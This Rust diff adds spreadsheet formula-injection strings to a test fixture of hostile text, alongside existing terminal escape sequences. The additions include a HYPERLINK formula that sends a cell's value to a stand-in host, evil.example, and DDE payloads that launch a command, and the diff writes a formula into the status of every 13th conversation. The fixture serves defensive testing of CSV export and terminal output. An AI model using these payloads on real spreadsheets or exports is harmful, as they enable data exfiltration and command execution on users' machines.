@@ -409,7 +409,8 @@ pub fn dataset(seed: u64, conversations: usize, visitors: usize) -> Dataset {
     }
 }
 
-/// Hostile text for the `hostile` fault: everything a terminal could act on.
+/// Hostile text for the `hostile` fault: everything a terminal could act on, then what a
+/// spreadsheet would run as a formula if a CSV export let it.
 pub const HOSTILE: &[&str] = &[
     "\u{1b}[2JCleared",
     "\u{1b}]0;pwned\u{7}title",
@@ -420,11 +421,24 @@ pub const HOSTILE: &[&str] = &[
     "\u{202e}evil override",
     "zero\u{200d}width\u{200b}join",
     "tab\there\nnewline",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
 ];
 
-/// Makes the data hostile: control sequences in every text field, a 5,000-character name,
-/// nulls and missing fields.
+/// The status every 13th conversation has under the `hostile` fault: a formula.
+pub const HOSTILE_STATUS: &str = "=cmd|' /C calc'!A0";
+
+/// Makes the data hostile: control sequences and formulas in every visitor text field, a
+/// 5,000-character name, nulls and missing fields; every 13th conversation's status is
+/// [`HOSTILE_STATUS`].
 pub fn make_hostile(ds: &mut Dataset) {
+    for c in ds.conversations.iter_mut().skip(12).step_by(13) {
+        c.status = HOSTILE_STATUS;
+    }
     for (i, v) in ds.visitors.iter_mut().enumerate() {
         let h = HOSTILE[i % HOSTILE.len()];
         v.name = match i % 11 {
